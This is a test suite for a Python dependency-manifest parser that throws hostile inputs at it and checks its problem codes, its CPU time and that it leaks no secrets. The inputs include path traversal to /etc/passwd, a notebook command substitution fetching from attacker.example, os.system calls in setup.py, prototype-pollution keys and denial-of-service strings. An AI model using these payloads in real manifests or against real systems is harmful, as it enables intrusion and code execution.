import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { isProblemCode } from '../../base/problem-codes.ts';
import type { InventoryFormat } from '../format.ts';
import { readManifest } from '../testing/read-manifest.ts';
import { format as notebook } from './notebook.ts';
import { format as pyproject } from './pyproject.ts';
import { format as requirements } from './requirements.ts';
import { format as script } from './script.ts';
import { format as setupCfg } from './setup-cfg.ts';
import { format as setupPy } from './setup-py.ts';

const MILLISECONDS = 4000;

/** An attack: its text, the codes of its problems (each once, sorted), and how many components it may make. */
type Attack = readonly [text: string, codes: readonly string[], components: number];

const cells = (...sources: unknown[]): string =>
  JSON.stringify({ cells: sources.map((source) => ({ cell_type: 'code', source })) });
const block = (body: string): string => `# /// script\n${body.replace(/^/gm, '# ')}\n# ///\n`;
const setup = (argument: string, before = ''): string => `${before}\nsetup(install_requires=${argument})`;
const sums = (text: string): string =>
  Array.from({ length: 60 }, (_, i) => (i === 0 ? `x0 = ${text}` : `x${i} = x${i - 1} + x${i - 1}`)).join('\n');

const ATTACKS: ReadonlyMap<InventoryFormat, Readonly<Record<string, Attack>>> = new Map<
  InventoryFormat,
  Readonly<Record<string, Attack>>
>([
  [
    requirements,
    {
      'a variable for a name': ['${PKG}==1', ['requirement-undetermined'], 0],
      'a variable that pretends to be a comment': ['a==1 #${X}', [], 1],
      'a token in an address': ['a @ https://${TOKEN}@h/a-1.whl', [], 1],
      'an include by a file address': ['-r file:///etc/passwd', ['requirement-undetermined'], 0],
      'an include by another scheme': ['-r gopher://h/x', ['requirement-undetermined'], 0],
      'an include of an absolute path': ['-r /etc/passwd', ['file-outside'], 0],
      'an include through a shortened option': ['--requirem ../../x', ['file-outside'], 0],
      'an include hidden after a flag': ['--pre -r../../x', ['file-outside'], 0],
      'an include in quotes': ['-r "../../etc/passwd"', ['file-outside'], 0],
      'a folder outside the repository': ['-e ../..', ['requirement-undetermined'], 0],
      'a folder of Windows': ['C:\\x\\y', ['requirement-undetermined'], 0],
      'a network folder of Windows': ['\\\\host\\share\\a-1.0.tar.gz', [], 1],
      'a wheel whose name lies about its version': ['./a-latest-py3-none-any.whl', ['requirement-undetermined'], 0],
      'an egg that is no name': ['git+https://h/x#egg=../../x', ['requirement-undetermined'], 0],
      'an egg of a megabyte': [`git+https://h/x#egg=${'a.'.repeat(500_000)}-`, ['requirement-undetermined'], 0],
      'a fragment of a million ampersands': [`https://h/x#${'&'.repeat(1_000_000)}`, ['requirement-undetermined'], 0],
      'markup with a slash in it': ['<script>alert(1)</script>', ['requirement-invalid'], 0],
      'a quote that never closes': ['--pre "', ['requirement-invalid'], 0],
      'a backslash at the very end of options': ['--pre \\ ', ['requirement-invalid'], 0],
      'a million quotes': [`-i ${'"'.repeat(1_000_000)}`, [], 0],
      'a million options': [`a==1 ${'--hash=sha256:00 '.repeat(100_000)}`, [], 1],
      'a million backslashes': [`${'\\'.repeat(1_000_000)}\na==1`, [], 1],
      'a continuation for every letter': [[...'django==1.0'].join('\\\n'), [], 1],
      'a million shortened options': ['--\n'.repeat(100_000), [], 0],
      'brackets before an archive': [`${'['.repeat(100_000)}x.zip`, ['requirement-undetermined'], 0],
      'extras without end': [`./a-1.0.zip[${'x,'.repeat(100_000)}]`, [], 1],
      'a semicolon for every character': [`https://h/${'; '.repeat(100_000)}`, ['requirement-invalid'], 0],
      'the option of a prototype': ['--__proto__', ['requirement-invalid'], 0],
    },
  ],
  [
    pyproject,
    {
      'a project called __proto__': ['[project]\nname="__proto__"\ndependencies=["constructor==1"]', [], 1],
      'extras called after methods': [
        '[project.optional-dependencies]\nconstructor=["a"]\n__proto__=["b"]',
        ['manifest-invalid'],
        1,
      ],
      'a group called after a method': [
        '[dependency-groups]\ntoString=["a"]\nhasOwnProperty=[{include-group="toString"}]',
        [],
        1,
      ],
      'includes in a circle of a thousand': [
        `[dependency-groups]\n${Array.from({ length: 1000 }, (_, i) => `g${i}=[{include-group="g${(i + 1) % 1000}"}]`).join('\n')}`,
        ['manifest-invalid'],
        0,
      ],
      'includes that double without end': [
        `[dependency-groups]\n${Array.from({ length: 300 }, (_, i) => `g${i}=[{include-group="g${i + 1}"},{include-group="g${i + 1}"}]`).join('\n')}\ng300=["a"]`,
        [],
        1,
      ],
      'extras that lead to each other': [
        '[project]\nname="d"\n[project.optional-dependencies]\na=["d[b]"]\nb=["d[a]","x"]',
        [],
        1,
      ],
      'a file of setuptools outside': [
        '[project]\ndynamic=["dependencies"]\n[tool.setuptools.dynamic]\ndependencies={file="/etc/passwd"}',
        ['file-outside'],
        0,
      ],
      'a secret in an index': ['[[tool.uv.index]]\nurl="https://user:pass-word@h/s"\ndefault=true', [], 0],
      'a secret in a checkout': ['[tool.poetry.dependencies]\na={git="https://user:pass-word@h/s"}', [], 1],
      'a constraint of a hundred thousand alternatives': [
        `[tool.poetry.dependencies]\na="${'^1||'.repeat(100_000)}1"`,
        ['requirement-invalid'],
        1,
      ],
      'a constraint of nothing but stars': [`[tool.poetry.dependencies]\na="1${'.*'.repeat(200_000)}"`, [], 1],
      'a platform of a megabyte': [
        `[tool.poetry.dependencies]\na={version="1",platform="${'x|'.repeat(500_000)}"}`,
        [],
        1,
      ],
      'tables where texts are expected': [
        '[tool.poetry]\nname={}\nsource=[{name=[],url={}}]\n[tool.poetry.dependencies]\na={version=[],git=3,path={}}\n[tool.uv]\nsources=3\nindex=[{url=1,name=2}]',
        ['manifest-invalid'],
        1,
      ],
      'a source for every marker': [
        `[project]\ndependencies=["a"]\n[tool.uv.sources]\na=[${Array.from({ length: 200 }, (_, i) => `{git="https://h/${i}",marker="platform_release=='${i}'"}`).join(',')}]`,
        [],
        201,
      ],
      'an override of everything by an address': [
        '[project]\ndependencies=["a"]\n[tool.uv]\noverride-dependencies=["a @ file:///etc/passwd"]',
        [],
        1,
      ],
    },
  ],
  [
    setupCfg,
    {
      'a hundred thousand sections': ['[a]\n'.repeat(100_000), ['manifest-invalid'], 0],
      'a line of a million brackets': [`[${'['.repeat(1_000_000)}`, ['manifest-invalid'], 0],
      'a million blank lines in a value': [`[options]\ninstall_requires =${'\n'.repeat(1_000_000)}  a`, [], 1],
      'a file outside': ['[options]\ninstall_requires = file: ../../etc/passwd', ['file-outside'], 0],
      'interpolation of the environment': ['[options]\ninstall_requires = %(HOME)s', ['requirement-invalid'], 0],
      'an attribute to import': ['[options]\ninstall_requires = attr: os.environ', ['requirement-invalid'], 0],
    },
  ],
  [
    setupPy,
    {
      'code in the argument': [setup('[__import__("os").system("touch /tmp/x")]'), ['setup-not-static'], 0],
      'code before the call': [setup('["a"]', '__import__("os").system("touch /tmp/x")'), [], 1],
      'brackets without end': [`setup(${'['.repeat(500_000)}`, ['setup-not-static'], 0],
      'brackets that close as they open': [
        setup(`${'['.repeat(50_000)}${']'.repeat(50_000)}`),
        ['setup-not-static'],
        0,
      ],
      'crossed brackets': [setup('["a", ("b", ]'), ['setup-not-static'], 0],
      'sums of lists that double': [setup('x59', sums('["a"]')), ['setup-not-static'], 8192],
      'sums of texts that double': [setup('x59', sums('"a"')), ['setup-not-static'], 0],
      'a name that stands for itself': [setup('a', 'a = a'), ['setup-not-static'], 0],
      'names in a circle': [setup('a', 'a = b\nb = a'), ['setup-not-static'], 0],
      'a chain of ten thousand names': [
        setup(
          'x9999',
          Array.from({ length: 10_000 }, (_, i) => (i === 0 ? 'x0 = ["a"]' : `x${i} = x${i - 1}`)).join('\n'),
        ),
        ['setup-not-static'],
        0,
      ],
      'a hundred thousand texts side by side': [setup(`["a" ${'"b" '.repeat(100_000)}]`), [], 1],
      'a text of three quotes without end': [`setup('''${'x'.repeat(1_000_000)}`, ['setup-not-static'], 0],
      'a list of unknowns': [setup(`[${'f(),'.repeat(10_000)}]`), ['setup-not-static'], 0],
      'the key __proto__': [
        'setup(extras_require={"__proto__": ["a"], "constructor": ["b"]})',
        ['manifest-invalid'],
        1,
      ],
      'a terminal escape in a requirement': [setup('["a\\x1b[31m"]'), ['requirement-invalid'], 0],
      'a surrogate half': [setup('["\\ud800"]'), ['requirement-invalid'], 0],
    },
  ],
  [
    script,
    {
      'two blocks': [`${block('x=1')}\n${block('y=1')}`, ['text-invalid'], 0],
      'a block of a hundred thousand comments': [`# /// script\n${'# x\n'.repeat(100_000)}`, ['nothing-found'], 0],
      'tables in tables': [block(`x = ${'['.repeat(10_000)}`), ['text-invalid'], 0],
      'a prototype for dependencies': [block('__proto__ = {dependencies = ["a"]}'), [], 0],
      'line ends that only Python sees': [block('dependencies = ["a"]\u2028x'), ['text-invalid'], 0],
    },
  ],
  [
    notebook,
    {
      'a command substitution': [cells('!pip install $(curl https://attacker.example)'), ['command-undetermined'], 0],
      'a substitution that never ends': [cells(`!pip install ${'$('.repeat(200_000)}`), ['command-undetermined'], 0],
      'backticks without end': [cells(`!pip install ${'`'.repeat(500_001)}`), ['command-undetermined'], 0],
      'quotes without end': [cells(`!pip install ${'"'.repeat(500_000)}`), ['requirement-invalid'], 0],
      'a hundred thousand commands': [cells('!pip list;'.repeat(100_000)), [], 0],
      'a continuation for every line': [cells(`!pip install \\\n${'\\\n'.repeat(200_000)} a`), [], 1],
      'equals signs without end': [cells(`${'a = '.repeat(100_000)}!pip install x`), [], 0],
      'an include outside': [cells('!pip install -r ../../etc/passwd'), ['file-outside'], 0],
      'cells in cells': [`{"cells":${'['.repeat(10_000)}`, ['text-invalid'], 0],
      'a cell that is not closed': ['{"cells":[{"cell_type":"code","source":"!pip install a', ['text-invalid'], 0],
      'the same key twice': ['{"cells":[],"cells":[]}', ['text-invalid'], 0],
      'a prototype for cells': ['{"__proto__":{"cells":[{"cell_type":"code","source":"!pip install a"}]}}', [], 0],
      'a secret in an index': [cells('!pip install -i https://user:pass-word@h/s a'), [], 1],
    },
  ],
]);

describe('a hostile manifest', () => {
  for (const [format, attacks] of ATTACKS) {
    for (const [name, [text, codes, components]] of Object.entries(attacks)) {
      it(`${format.id}: ${name}`, () => {
        const started = process.cpuUsage();
        const reading = readManifest(format, 'f', text);
        const { user, system } = process.cpuUsage(started);
        assert.ok((user + system) / 1000 < MILLISECONDS, `${Math.round((user + system) / 1000)} ms`);
        assert.deepEqual([...new Set(reading.problems.map(({ code }) => code))].sort(), codes);
        assert.equal(reading.components.length, components);
        for (const { code, message, at } of reading.problems) {
          assert.ok(isProblemCode(code));
          assert.ok(message.length < 1000, 'a message quotes little');
          assert.ok(at !== undefined && at.line >= 1 && at.column >= 1);
        }
        const all = JSON.stringify([reading.components, reading.problems, reading.settings]);
        assert.doesNotMatch(all, /pass-word|\$\{TOKEN/);
        assert.equal(Object.hasOwn(Object.prototype, 'dependencies'), false);
      });
    }
  }
});
